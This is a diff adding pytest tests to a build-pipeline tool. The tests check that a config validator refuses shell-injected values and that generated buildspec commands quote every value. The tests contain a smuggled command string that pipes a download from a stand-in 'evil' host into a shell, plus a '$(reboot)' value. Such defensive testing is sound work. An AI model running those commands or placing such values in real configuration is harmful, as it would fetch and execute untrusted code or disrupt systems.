@@ -241,3 +241,37 @@ def test_write_of_a_record_is_readable_back(tmp_path: Path) -> None:
     build = BuildRecord(REPO, "linux/arm64", "sha256:" + "b" * 64, 3, 1.5, "buildx", "r:cache-arm64", 2)
     write(tmp_path / "b.json", build)
     assert BuildRecord.load(tmp_path / "b.json") == build
+
+
+INJECTION = "x; curl http://evil | sh #"
+
+
+def test_shell_injection_in_a_context_is_refused_with_exit_2(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "platform.toml"
+    path.write_text(EXAMPLE.read_text().replace('context = "examples/web"', f'context = "{INJECTION}"', 1))
+    code, err = run_cli(["validate", str(path)], capsys)
+    assert code == 2
+    assert "teams[0].services[0].context: expected a relative path inside the repository" in err
+    assert repr(INJECTION) in err
+
+
+def test_buildspec_quotes_every_config_value_even_unvalidated_ones() -> None:
+    """Defence in depth: a value that bypassed validation still reaches the shell as one word."""
+    import shlex
+
+    from infra import buildspecs
+    from infra.blueprint import BuildStep, PipelineBlueprint
+
+    blueprint = PipelineBlueprint(
+        team="payments", service="api", repository_name="payments/api", source_repo="acme/api", branch="main",
+        dockerfile="Dockerfile", context=INJECTION, file_paths=(), secrets=(),
+        builds=(BuildStep("linux/amd64", "x86"),), deploys=(), target="$(reboot)",
+    )  # fmt: skip
+    [command] = buildspecs.build(blueprint, blueprint.builds[0])["phases"]["build"]["commands"]
+    words = shlex.split(command)
+    assert words[words.index("--context") + 1] == INJECTION
+    assert words[words.index("--target") + 1] == "$(reboot)"
+    [lint] = buildspecs.lint(blueprint, "111111111111.dkr.ecr.eu-west-1.amazonaws.com")["phases"]["build"]["commands"]
+    assert shlex.split(lint)[-1] == f"{INJECTION}/Dockerfile"
